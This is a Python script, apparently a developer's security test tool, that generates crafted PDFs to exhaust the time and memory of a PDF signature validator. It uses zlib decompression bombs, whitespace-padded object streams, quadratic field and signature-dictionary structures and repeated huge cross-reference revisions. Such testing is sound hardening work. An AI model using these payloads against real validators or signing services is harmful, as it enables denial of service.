#!/usr/bin/env python3
"""PDFs that cost a validator more than their size: each shape makes one loop of a reader
repeat work, found by reading kyso's verify/ and pdf/ as an attacker (2026-12-02). Written
with Python's zlib and nothing of kyso's.

    slow_pdf.py SHAPE OUT.pdf [N]

Shapes:
  objstm-shared-offset  an object stream whose N entries all point at one offset, where a run
                        of 60 MB of white space ends in `0`: read per entry, n × 60 MB.
  objstm-whitespace     the same run, N entries at offsets 0, 1, 2, …: each read to its end.
  sig-dict-keys         a signature field whose inline signature dictionary has N extra keys:
                        compared key by key with a linear lookup, N² steps.
  dss-revisions         a signed form, then N revisions, each adding a DSS of four CRLs that
                        are 64 MiB zlib bombs: every revision read with a budget of its own
                        would inflate N × 256 MiB.
  xref-revisions        a signed form, an update whose cross-reference stream lists a million
                        entries, then N small updates: each revision read with the chain
                        behind it reads the million entries again.
  inflate-budget        N object streams, each a zlib bomb of 64 MiB that one form field
                        reaches, and N MB of padding: the document's decode budget (32 times
                        its size) spent to the last byte. Bounded, but seconds of work.
  inflate-budget-page   the same, with a page: a document a signer reads (its form's fields)
                        before it signs.
  shared-kids           N form fields named by 200-byte /T strings, each with /Kids naming
                        one array of all N: a walk of the field tree that meets a kid once per
                        parent makes N² steps, each with a copy of a name up to 32 × 200 bytes.
  field-copies          a 31-deep chain of fields with 130-byte names, the last one's kids N
                        empty inline dictionaries, and a 20 KB /FT at the top, in an object
                        stream: a walk that keeps each node's qualified name and inherited type
                        holds N × (4 KB + 20 KB).
  shared-signature      N signature fields whose /V all name one signature dictionary: a
                        list of the other fields' names, each checked against the list
                        before it was added, made N² string comparisons (92 s for 100,000
                        in a debug build).
"""
import sys
import zlib

shape, out = sys.argv[1], sys.argv[2]
n = int(sys.argv[3]) if len(sys.argv) > 3 else 2000


def write(objs, trailer_extra=b""):
    """A file of numbered objects (bytes), a classic xref table, the trailer."""
    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objs):
        offsets[num] = len(pdf)
        pdf += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    size = max(objs) + 1
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in offsets:
            pdf += b"%010d 00000 n \n" % offsets[num]
        else:
            pdf += b"0000000000 65535 f \n"
    pdf += b"trailer\n<< /Size %d /Root 1 0 R%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        trailer_extra,
        xref,
    )
    return pdf


def write_xref_stream(objs, xref_num, size, in_stream):
    """A file of numbered objects and a cross-reference stream (object `xref_num`, `/Size`
    `size`): type 1 entries for the objects written, type 2 for `in_stream`'s (number ->
    (object stream, index)), free ones for the rest."""
    pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    at = {}
    for num in sorted(objs):
        at[num] = len(pdf)
        pdf += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
    at[xref_num] = len(pdf)
    rows = bytearray()
    for num in range(size):
        if num in at:
            rows += bytes([1]) + at[num].to_bytes(4, "big") + (0).to_bytes(2, "big")
        elif num in in_stream:
            stream, index = in_stream[num]
            rows += bytes([2]) + stream.to_bytes(4, "big") + index.to_bytes(2, "big")
        else:
            rows += bytes([0]) + (0).to_bytes(4, "big") + (0xFFFF).to_bytes(2, "big")
    x = zlib.compress(bytes(rows))
    pdf += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
        % (xref_num, size, len(x))
        + x
        + b"\nendstream\nendobj\n"
    )
    pdf += b"startxref\n%d\n%%%%EOF\n" % at[xref_num]
    return pdf


def objstm(offsets):
    """Catalog, pages, and object stream 3 holding objects 10.. at `offsets` in 60 MB of white
    space ending in `0`; the form's one field is object 10. The object stream is reached
    through a cross-reference stream (type 2 entries)."""
    head = b" ".join(b"%d %d" % (10 + i, off) for i, off in enumerate(offsets)) + b" "
    z = zlib.compressobj(9)
    body = z.compress(head)
    chunk = b" " * (1 << 20)
    for _ in range(60):
        body += z.compress(chunk)
    body += z.compress(b"0") + z.flush()
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R] >> >>",
        2: b"<< /Type /Pages /Kids [] /Count 0 >>",
        3: b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(offsets), len(head), len(body))
        + body
        + b"\nendstream",
    }
    return write_xref_stream(
        objs, 4, 10 + len(offsets), {10 + i: (3, i) for i in range(len(offsets))}
    )



def signed_form(junk):
    """One revision: a form whose signature field holds its signature dictionary inline (/V
    << … >>) with `junk` keys, and a /ByteRange that covers the whole file but its /Contents:
    structurally right, so the reader goes on to check that the dictionary is the one of the
    revision it signs (the /Contents is no CMS)."""
    contents = b"<" + b"00" * 64 + b">"
    placeholder = b"[0000000000 0000000000 0000000000 0000000000]"
    sig = (
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange "
        + placeholder
        + b" /Contents "
        + contents
        + b" "
        + junk
        + b">>"
    )
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /SigFlags 3 >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        4: b"<< /FT /Sig /T (Signature1) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /P 3 0 R /V "
        + sig
        + b" >>",
    }
    pdf = write(objs)
    a = pdf.index(contents)
    b = a + len(contents)
    ranges = b"[%010d %010d %010d %010d]" % (0, a, b, len(pdf) - b)
    assert len(ranges) == len(placeholder)
    return pdf.replace(placeholder, ranges, 1)


if shape == "objstm-shared-offset":
    pdf = objstm([0] * n)
elif shape == "objstm-whitespace":
    pdf = objstm(list(range(n)))
elif shape == "sig-dict-keys":
    pdf = signed_form(b"".join(b"/K%d %d " % (i, i) for i in range(n)))
elif shape == "dss-revisions":
    # The signed form, then N incremental updates, each giving the catalog a DSS of four CRL
    # streams of its own, each a zlib bomb of 64 MiB: every revision's DSS is read (a later one
    # cannot take away what an earlier one stored).
    pdf = signed_form(b"")
    z = zlib.compressobj(9)
    bomb = b"".join(z.compress(bytes(1 << 20)) for _ in range(64)) + z.flush()
    size = 5
    for k in range(n):
        prev = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
        crls = list(range(size, size + 4))
        objs = {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /SigFlags 3 >> /DSS << /CRLs [%s] >> >>"
            % b" ".join(b"%d 0 R" % c for c in crls)
        }
        for c in crls:
            objs[c] = (
                b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(bomb)
                + bomb
                + b"\nendstream"
            )
        size += 4
        at = {}
        for num in sorted(objs):
            at[num] = len(pdf)
            pdf += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
        xref = len(pdf)
        pdf += b"xref\n"
        for num in sorted(at):
            pdf += b"%d 1\n%010d 00000 n \n" % (num, at[num])
        pdf += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            size,
            prev,
            xref,
        )
elif shape == "xref-revisions":
    # The signed form; one update whose cross-reference stream lists a million entries (free
    # ones, 7 MB inflated from a few kilobytes) beside 4 MB of padding (so the file may hold
    # that many); then N small updates. Every revision is parsed with the whole chain behind
    # it, so each read the million entries again.
    pdf = signed_form(b"")
    m = 1_000_000
    pad = b"%" * (4 << 20)
    prev = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    at = len(pdf)
    pdf += b"5 0 obj\n<< /Length %d >>\nstream\n" % len(pad) + pad + b"\nendstream\nendobj\n"
    xref_at = len(pdf)
    rows = bytearray()
    rows += bytes([1]) + at.to_bytes(4, "big") + (0).to_bytes(2, "big")
    rows += bytes([1]) + xref_at.to_bytes(4, "big") + (0).to_bytes(2, "big")
    rows += (bytes([0]) + (0).to_bytes(4, "big") + (0xFFFF).to_bytes(2, "big")) * m
    x = zlib.compress(bytes(rows), 9)
    size = 7 + m
    pdf += (
        b"6 0 obj\n<< /Type /XRef /Size %d /Index [5 %d] /W [1 4 2] /Root 1 0 R /Prev %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (size, 2 + m, prev, len(x))
        + x
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    )
    for k in range(n):
        prev = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
        at = len(pdf)
        pdf += b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 /Rev %d >>\nendobj\n" % k
        xref = len(pdf)
        pdf += b"xref\n2 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            at,
            size,
            prev,
            xref,
        )
elif shape == "shared-kids":
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields 3 0 R >> >>",
        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        3: b"[" + b" ".join(b"%d 0 R" % (10 + i) for i in range(n)) + b"]",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    for i in range(n):
        objs[10 + i] = b"<< /T (" + b"A" * 200 + b") /Kids 3 0 R >>"
    pdf = write(objs)
elif shape == "field-copies":
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [10 0 R] >> >>",
        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    }
    depth = 31
    for i in range(depth):
        kids = b"[%d 0 R]" % (11 + i) if i < depth - 1 else b"60 0 R"
        ft = b" /FT /" + b"B" * 20000 if i == 0 else b""
        objs[10 + i] = b"<< /T (" + b"A" * 130 + b")" + ft + b" /Kids " + kids + b" >>"
    head = b"60 0 "
    data = zlib.compress(head + b"[" + b"<<>>" * n + b"]", 9)
    objs[50] = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(head), len(data))
        + data
        + b"\nendstream"
    )
    pdf = write_xref_stream(objs, 70, 71, {60: (50, 0)})
elif shape in ("inflate-budget", "inflate-budget-page"):
    z = zlib.compressobj(9)
    bomb = b"".join(z.compress(bytes(1 << 20)) for _ in range(63)) + z.flush()
    first = 100
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>"
        % b" ".join(b"%d 0 R" % (first + i) for i in range(n)),
        2: b"<< /Type /Pages /Kids [] /Count 0 >>",
        3: b"<< /Length %d >>\nstream\n" % (n << 20) + b"%" * (n << 20) + b"\nendstream",
    }
    if shape == "inflate-budget-page":
        objs[2] = b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>"
        objs[4] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    # Object `first + i` is the only object of stream `10 + i` (a type 2 entry).
    for i in range(n):
        objs[10 + i] = (
            b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
            % len(bomb)
            + bomb
            + b"\nendstream"
        )
    size = first + n + 1
    pdf = write_xref_stream(objs, size - 1, size, {first + i: (10 + i, 0) for i in range(n)})
elif shape == "shared-signature":
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields 4 0 R >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10 10] >>",
        4: b"[" + b" ".join(b"%d 0 R" % (10 + i) for i in range(n)) + b"]",
        5: b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
        b"/ByteRange [0 1 2 3] /Contents <00> >>",
    }
    for i in range(n):
        objs[10 + i] = b"<< /FT /Sig /T (f%d) /V 5 0 R >>" % i
    pdf = write(objs)
else:
    sys.exit(f"unknown shape {shape}")
open(out, "wb").write(pdf)
